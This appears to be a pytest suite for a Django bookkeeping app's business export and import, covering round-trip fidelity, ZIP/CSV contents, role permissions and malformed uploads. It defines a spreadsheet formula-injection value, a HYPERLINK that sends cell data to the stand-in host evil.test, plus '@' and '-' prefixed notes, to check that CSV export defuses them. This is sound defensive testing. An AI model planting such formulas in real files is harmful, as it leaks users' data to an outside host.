"""A whole business to take away and bring back (issue 21): the export's document and ZIP,
who may take it, and an import that rebuilds the same books in a new business."""

from __future__ import annotations

import copy
import csv
import datetime as dt
import io
import json
import zipfile
from decimal import Decimal
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import timezone

from ledger.khata import actions, selectors
from ledger.khata.models import Bill, Business, CashEntry, CreditNote, Party
from realtime.models import Change
from tests.helpers import assert_error, client_for
from tests.ledger.khata.conftest import line as api_line

pytestmark = pytest.mark.django_db

D = Decimal
HOSTILE = '=HYPERLINK("http://evil.test/?"&A1,"Pay")'


def line(price: str = "100.00", qty: str = "1", rate: str = "18", **extra: Any) -> dict[str, Any]:
    """A bill line as the actions take it (Decimals)."""
    return {k: D(v) if k in ("quantity", "unit_price", "tax_rate") else v
            for k, v in api_line(price, qty, rate, **extra).items()}


@pytest.fixture
def books(shop, customer, alice, bob, carol):
    """A shop with one of everything an export carries, made the ways the product makes it."""
    day = shop.today() - dt.timedelta(days=20)
    at = lambda n: day + dt.timedelta(days=n)  # noqa: E731
    supplier = actions.create_party(alice, business=shop, kind="supplier", name="Gupta Traders", state_code="29",
                                    opening_balance=D("-750.00"))
    hostile = actions.create_party(bob, business=shop, kind="customer", name=HOSTILE, credit_limit=D("100.00"))
    gone = actions.create_party(alice, business=shop, kind="customer", name="Moved Away")
    actions.record_entry(carol, business=shop, party_id=customer.id, kind="gave", amount=D("500.00"), date=at(0))
    actions.record_entry(carol, business=shop, party_id=customer.id, kind="got", amount=D("200.00"), date=at(1),
                         settlement="payment", mode="cash", note="-cash back")
    actions.record_entry(bob, business=shop, party_id=hostile.id, kind="gave", amount=D("150.00"), date=at(1),
                         override_credit_limit=True, note="@SUM(1)")
    edited = actions.record_entry(alice, business=shop, party_id=supplier.id, kind="got", amount=D("90.00"),
                                  date=at(2), settlement="payment", mode="upi")
    actions.edit_entry(alice, entry=edited, amount=D("95.00"))
    dropped = actions.record_entry(alice, business=shop, party_id=customer.id, kind="gave", amount=D("1.00"),
                                   date=at(2))
    actions.delete_entry(alice, entry=dropped)
    actions.record_entry(alice, business=shop, party_id=gone.id, kind="gave", amount=D("40.00"), date=at(2))
    # A draft made first and issued last takes the later number (the import must issue it out of turn).
    late = actions.create_bill(alice, business=shop, party_id=customer.id, issue=False, issue_date=at(3),
                               lines=[line("250.00", qty="2"), line("99.50", rate="5", discount=D("4.50"))],
                               discount=D("10.00"), notes="Diwali order")
    partly = actions.create_bill(bob, business=shop, party_id=customer.id, issue_date=at(4),
                                 lines=[line("100.00"), line("35.25", qty="3", rate="12")])
    actions.record_payment(bob, bill=partly, amount=D("50.00"), date=at(5), mode="cash")
    # A sales return, and a price correction taken back; a supplier's bill, half paid in cash.
    actions.issue_credit_note(bob, bill=partly, lines=[line("100.00")], reason="Returned", date=at(5))
    undone = actions.issue_credit_note(bob, bill=partly, lines=[line("10.00")], reason="Price", date=at(5))
    actions.cancel_credit_note(alice, note=undone)
    bought = actions.record_purchase_bill(bob, business=shop, party_id=supplier.id, number="GT/881", issue_date=at(4),
                                          lines=[line("400.00", qty="2", rate="12")])
    actions.record_payment(bob, bill=bought, amount=D("300.00"), date=at(6), mode="cash")
    actions.issue_bill(alice, bill=late)
    inter = actions.create_bill(alice, business=shop, party_id=supplier.id, issue_date=at(5),
                                lines=[line("1000.00", rate="18")])
    actions.record_payment(alice, bill=inter, amount=inter.total, date=at(6), mode="upi")
    cancelled = actions.create_bill(alice, business=shop, party_id=customer.id, issue_date=at(6), lines=[line()])
    actions.cancel_bill(alice, bill=cancelled)
    actions.create_bill(alice, business=shop, party_id=customer.id, issue=False, issue_date=at(7), lines=[line()])
    # Cash paid while the shop did not post automatically: no cashbook row, in the copy too.
    actions.update_settings(alice, business=shop, auto_cashbook=False)
    actions.record_payment(alice, bill=Bill.objects.get(pk=late.pk), amount=D("100.00"), date=at(7), mode="cash")
    actions.update_settings(alice, business=Business.objects.get(pk=shop.pk), auto_cashbook=True)
    # A new series (a new financial year) starting at 1.
    actions.update_settings(alice, business=Business.objects.get(pk=shop.pk), invoice_prefix="SK/26-27/")
    actions.create_bill(alice, business=Business.objects.get(pk=shop.pk), party_id=supplier.id, issue_date=at(8),
                        lines=[line("20.00", rate="0")])
    actions.record_cash(bob, business=shop, direction="in", amount=D("1200.00"), date=at(1), category="Sales")
    actions.record_cash(bob, business=shop, direction="out", amount=D("300.50"), date=at(1), category="Rent",
                        mode="upi", note=HOSTILE)
    raju = actions.create_staff(alice, business=shop, name="Raju", salary_type="daily", salary_amount=D("600.00"),
                                joining_date=at(0))
    actions.create_staff(alice, business=shop, name="Meena", phone="9876500009")
    start = timezone.now() - dt.timedelta(days=2)
    actions.punch(carol, staff=raju, kind="in", at=start)
    actions.punch(carol, staff=raju, kind="out", at=start + dt.timedelta(hours=8))
    actions.set_day_status(carol, staff=raju, date=at(9), status="leave", note="Wedding")
    actions.delete_party(alice, party=gone)
    return Business.objects.get(pk=shop.pk)


def _figures(business: Business) -> dict[str, Any]:
    """Everything a person reads off the books, without ids."""
    parties = {}
    for party in Party.objects.filter(business=business).select_related("business").order_by("name"):
        statement = selectors.statement(party, start=None, end=None)
        parties[party.name] = {
            "kind": party.kind, "balance": party.balance, "opening": party.opening_balance,
            "debits": party.debits, "credits": party.credits, "deleted": party.deleted_at is not None,
            "credit_limit": party.credit_limit, "closing": statement["closing"],
            "movements": [(m["date"], m["type"], m["text"], m["debit"], m["credit"], m["balance"])
                          for m in statement["movements"]],
        }
    bills = sorted(
        ((b.number, b.kind, b.credited, b.state, b.status, b.tax_mode, b.issue_date, b.due_date, b.subtotal, b.discount, b.taxable,
          b.cgst, b.sgst, b.igst, b.tax_total, b.round_off, b.total, b.paid, b.party.name, b.notes,
          [(x.position, x.description, x.quantity, x.unit_price, x.discount, x.tax_rate, x.cgst, x.sgst, x.igst,
            x.amount) for x in b.lines.order_by("position")])
         for b in Bill.objects.filter(business=business, deleted_at=None).select_related("business", "party")),
        key=repr,
    )
    notes = sorted((n.number, n.state, n.date, n.reason, n.bill.number, n.tax_mode, n.taxable, n.cgst, n.sgst, n.igst,
                    n.round_off, n.total, [(x.position, x.description, x.quantity, x.unit_price, x.tax_rate, x.amount)
                                           for x in n.lines.order_by("position")])
                   for n in CreditNote.objects.filter(business=business).select_related("bill"))
    opening, rows = selectors.cashbook_with_running_balance(business)
    cash = [(r.date, r.direction, r.amount, r.category, r.mode, r.source, r.running) for r in rows]
    staff = [(s.name, s.phone, s.salary_type, s.salary_amount, s.joining_date,
              sorted((p.kind, p.at, p.date) for p in s.punches.all()),
              sorted((d.date, d.status, d.note) for d in s.attendance_days.filter(deleted_at=None)))
             for s in selectors.staff_of(business)]
    settings = {k: getattr(business, k) for k in ("name", "currency", "state_code", "invoice_prefix",
                                                   "next_invoice_number", "auto_cashbook", "upi_id", "time_zone")}
    return {"parties": parties, "bills": bills, "notes": notes, "cash": cash, "cash_opening": opening, "staff": staff,
            "settings": settings}


def _import(client, document: dict[str, Any]):
    return client.post("/api/khata/businesses/import", document, format="json")


def test_an_exported_business_imports_into_a_new_one_with_the_same_books(books, alice, dave):
    exported = client_for(alice).get(f"/api/khata/businesses/{books.id}/export")
    assert exported.status_code == 200, exported.content[:500]
    document = exported.json()
    assert (document["format"], document["version"]) == ("hisaab.khata", 1)
    assert {b["number"] for b in document["bills"]} >= {"INV-0001", "INV-0002", "SK/26-27/0001"}

    response = _import(client_for(dave), document)

    assert response.status_code == 201, response.content[:1500]
    copy_id = response.json()["business"]["id"]
    copied = Business.objects.get(pk=copy_id)
    assert copied.owner == dave and copied.pk != books.pk
    assert selectors.role_of(dave, copied.pk) == "owner"
    assert _figures(copied) == _figures(books)
    assert response.json()["counts"]["bills"] == len(document["bills"])
    # New ids throughout: nothing of the original is shared.
    original_ids = {str(p.id) for p in Party.objects.filter(business=books)}
    assert original_ids.isdisjoint({str(p.id) for p in Party.objects.filter(business=copied)})
    # And the copy exports to the same document, but for its ids, the moment and the order of
    # creation (the draft issued out of turn is made again at its number's turn).
    again = client_for(dave).get(f"/api/khata/businesses/{copy_id}/export").json()
    assert _without_ids(again) == _without_ids(document)


def _without_ids(document: dict[str, Any]) -> Any:
    drop = {"id", "party", "bill", "staff", "source_id", "created_at", "exported_at"}
    if isinstance(document, dict):
        return {k: _without_ids(v) for k, v in document.items() if k not in drop}
    if isinstance(document, list):
        return sorted((_without_ids(v) for v in document), key=lambda v: json.dumps(v, sort_keys=True))
    return document


def test_the_import_reaches_the_importers_change_feed(books, alice, dave):
    document = client_for(alice).get(f"/api/khata/businesses/{books.id}/export").json()
    response = _import(client_for(dave), document)
    assert response.status_code == 201, response.content[:500]
    copy_id = response.json()["business"]["id"]
    changes = Change.objects.filter(user=dave)
    assert changes.filter(entity="khata.business", object_id=copy_id).exists()
    entities = set(changes.values_list("entity", flat=True))
    assert {"khata.party", "khata.entry", "khata.bill", "khata.payment", "khata.cash_entry", "khata.staff",
            "khata.punch", "khata.attendance_day"} <= entities
    # The original's members hear nothing of the copy.
    assert not Change.objects.filter(user=alice, object_id=copy_id).exists()


def test_the_zip_holds_the_document_and_a_csv_per_table_with_formulas_defused(books, alice):
    response = client_for(alice).get(f"/api/khata/businesses/{books.id}/export.zip")
    assert response.status_code == 200 and response["Content-Type"] == "application/zip"
    assert response["Content-Disposition"].startswith('attachment; filename="khata-')
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    names = set(archive.namelist())
    tables = {"business", "parties", "entries", "bills", "bill_lines", "payments", "credit_notes", "credit_note_lines",
              "cashbook", "staff", "punches", "attendance", "receipts"}
    assert names == {"hisaab-khata/data.json"} | {f"hisaab-khata/{t}.csv" for t in tables}
    document = json.loads(archive.read("hisaab-khata/data.json"))
    assert document["format"] == "hisaab.khata" and len(document["parties"]) == 4
    cells = {t: list(csv.DictReader(io.StringIO(archive.read(f"hisaab-khata/{t}.csv").decode()))) for t in tables}
    assert "'" + HOSTILE in {row["name"] for row in cells["parties"]}
    assert "'" + HOSTILE in {row["note"] for row in cells["cashbook"]}
    assert "'@SUM(1)" in {row["note"] for row in cells["entries"]}
    assert "'-cash back" in {row["note"] for row in cells["entries"]}
    # Amounts stay numbers: a negative opening balance is not quoted.
    assert "-750.00" in {row["opening_balance"] for row in cells["parties"]}
    assert len(cells["bill_lines"]) == sum(len(b["lines"]) for b in document["bills"])


def test_the_zip_imports_as_well_as_the_json(books, alice, dave):
    body = b"".join(client_for(alice).get(f"/api/khata/businesses/{books.id}/export.zip").streaming_content)
    upload = SimpleUploadedFile("khata.zip", body, content_type="application/zip")
    response = client_for(dave).post("/api/khata/businesses/import", {"file": upload}, format="multipart")
    assert response.status_code == 201, response.content[:800]
    assert _figures(Business.objects.get(pk=response.json()["business"]["id"])) == _figures(books)


def test_a_manager_may_export_a_clerk_may_not_and_a_stranger_finds_nothing(books, clients):
    for who in ("owner", "manager"):
        assert clients[who].get(f"/api/khata/businesses/{books.id}/export").status_code == 200
        assert clients[who].get(f"/api/khata/businesses/{books.id}/export.zip").status_code == 200
    for path in ("export", "export.zip"):
        assert_error(clients["clerk"].get(f"/api/khata/businesses/{books.id}/{path}"), 403, "insufficient_role")
        assert_error(clients["outsider"].get(f"/api/khata/businesses/{books.id}/{path}"), 404, "not_found")


def _count() -> tuple[int, ...]:
    return Business.objects.count(), Party.objects.count(), Bill.objects.count(), CashEntry.objects.count()


def _broken(document: dict[str, Any], change) -> dict[str, Any]:
    broken = copy.deepcopy(document)
    change(broken)
    return broken


@pytest.mark.parametrize(("change", "where"), [
    (lambda d: d.update(format="vyapar"), "format"),
    (lambda d: d.update(version=2), "version"),
    (lambda d: d["entries"][0].update(party="00000000-0000-4000-8000-000000000000"), "entries[0].party"),
    (lambda d: d["payments"][0].update(bill="00000000-0000-4000-8000-000000000000"), "payments[0].bill"),
    (lambda d: d["entries"][0].update(amount="12.345"), "entries[0]"),
    (lambda d: d["entries"][0].update(amount=-5), "entries"),
    (lambda d: d["entries"][0].update(amount="lots"), "entries"),
    (lambda d: d["parties"][0].update(balance="1.00"), "parties[0].balance"),
    (lambda d: d["bills"][1].update(total="1.00"), "bills[1].total"),
    (lambda d: d["payments"][0].update(amount="999999.00"), "payments[0]"),
    (lambda d: d["cashbook"][0].update(amount="1.00"), "cashbook"),
    (lambda d: d["parties"].append(dict(d["parties"][0])), "parties[4]"),
    (lambda d: d["bills"][0].update(owner="me"), "bills"),
    (lambda d: d["credit_notes"][0].update(bill="00000000-0000-4000-8000-000000000000"), "credit_notes[0].bill"),
    (lambda d: d["credit_notes"][0].update(total="1.00"), "credit_notes[0].total"),
    (lambda d: d["credit_notes"][0]["lines"][0].update(quantity="1000"), "credit_notes[0]"),
])
def test_a_broken_document_is_400_naming_the_problem_and_makes_nothing(books, alice, dave, change, where):
    document = client_for(alice).get(f"/api/khata/businesses/{books.id}/export").json()
    before, feed = _count(), Change.objects.filter(user=dave).count()
    response = _import(client_for(dave), _broken(document, change))
    error = assert_error(response, 400)
    assert where in error["message"] or where.split("[")[0] in error["fields"], error
    assert _count() == before
    assert Change.objects.filter(user=dave).count() == feed


def test_a_file_that_is_not_an_export_is_400(dave):
    client = client_for(dave)
    for name, body in [("x.json", b"{not json"), ("x.zip", b"PK\x03\x04broken"), ("x.bin", b"\xff\xfe\x00"),
                       ("x.json", b"[1, 2]")]:
        upload = SimpleUploadedFile(name, body, content_type="application/octet-stream")
        assert_error(client.post("/api/khata/businesses/import", {"file": upload}, format="multipart"), 400)
    empty = io.BytesIO()
    with zipfile.ZipFile(empty, "w") as archive:
        archive.writestr("readme.txt", "hello")
    upload = SimpleUploadedFile("x.zip", empty.getvalue(), content_type="application/zip")
    error = assert_error(client.post("/api/khata/businesses/import", {"file": upload}, format="multipart"), 400)
    assert "data.json" in error["message"]
    assert Business.objects.filter(owner=dave).count() == 0


def test_an_anonymous_import_is_401():
    assert_error(client_for(None).post("/api/khata/businesses/import", {}, format="json"), 401)


def _page_client(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def test_the_business_page_offers_the_zip_to_those_who_may_take_it(books, alice, bob, carol, dave):
    url = f"/khata/{books.id}/export.zip"
    for user in (alice, bob):
        page = _page_client(user).get(f"/khata/{books.id}/")
        assert url in page.content.decode()
        response = _page_client(user).get(url)
        assert response.status_code == 200 and response["Content-Type"] == "application/zip"
    assert url not in _page_client(carol).get(f"/khata/{books.id}/").content.decode()
    assert _page_client(carol).get(url).status_code == 403
    assert _page_client(dave).get(url).status_code == 404


def test_the_import_page_makes_a_business_from_an_uploaded_export(books, alice, dave):
    body = b"".join(client_for(alice).get(f"/api/khata/businesses/{books.id}/export.zip").streaming_content)
    client = _page_client(dave)
    assert client.get("/khata/import/").status_code == 200
    response = client.post("/khata/import/", {"file": SimpleUploadedFile("k.zip", body)})
    copied = Business.objects.get(owner=dave)
    assert response.status_code == 302 and response["Location"] == f"/khata/{copied.pk}/"
    assert _figures(copied) == _figures(books)
    refused = client.post("/khata/import/", {"file": SimpleUploadedFile("k.json", b'{"format": "x"}')})
    assert refused.status_code == 200 and "format" in refused.content.decode()
    assert Business.objects.filter(owner=dave).count() == 1


def test_amounts_that_together_overflow_the_books_are_400_not_500(dave):
    party = "00000000-0000-4000-8000-000000000001"
    document = {
        "format": "hisaab.khata", "version": 1, "business": {"name": "Too big"},
        "parties": [{"id": party, "kind": "customer", "name": "Whale", "opening_balance": "1000000000000.00"}],
        "entries": [{"id": f"00000000-0000-4000-9000-{n:012d}", "party": party, "kind": "gave",
                     "amount": "1000000000000.00", "date": "2026-01-01"} for n in range(1000)],
    }
    error = assert_error(_import(client_for(dave), document), 400)
    assert error["message"].startswith("entries[")
    assert not Business.objects.filter(owner=dave).exists()
